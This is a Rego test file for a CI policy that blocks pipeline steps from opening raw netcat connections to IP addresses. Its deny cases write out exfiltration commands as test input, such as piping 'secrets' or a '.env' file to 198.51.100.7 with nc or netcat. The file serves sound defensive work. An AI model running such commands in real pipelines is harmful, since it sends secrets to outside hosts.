package gapcheck.step.opens_no_raw_connections_test

import data.gapcheck.step.opens_no_raw_connections as policy

test_deny_raw_connection if _denied({"run": "cat secrets | nc 198.51.100.7 4444"}) == {["run"]}

test_deny_by_another_name if _denied({"run": "netcat -w 3 198.51.100.7 80 < .env"}) == {["run"]}

test_deny_in_the_middle if _denied({"run": "make\nncat 198.51.100.7 80\nmake test"}) == {["run"]}

test_allow_named_host if _denied({"run": "nc -z database 5432"}) == set()

test_allow_address_of_another_line if _denied({"run": "nc -z database 5432\necho 127.0.0.1"}) == set()

test_allow_another_word if _denied({"run": "sync 198.51.100.7"}) == set()

test_allow_missing if _denied({}) == set()

test_subjects_run_scripts if policy.subjects == {"a"} with input.step as [{"id": "a", "run": "make"}, {"id": "b"}]

_denied(facts) := paths if {
	subject := object.union({"id": "a", "name": "a"}, facts)
	paths := {it.path | some it in policy.deny} with input.step as [subject]
}
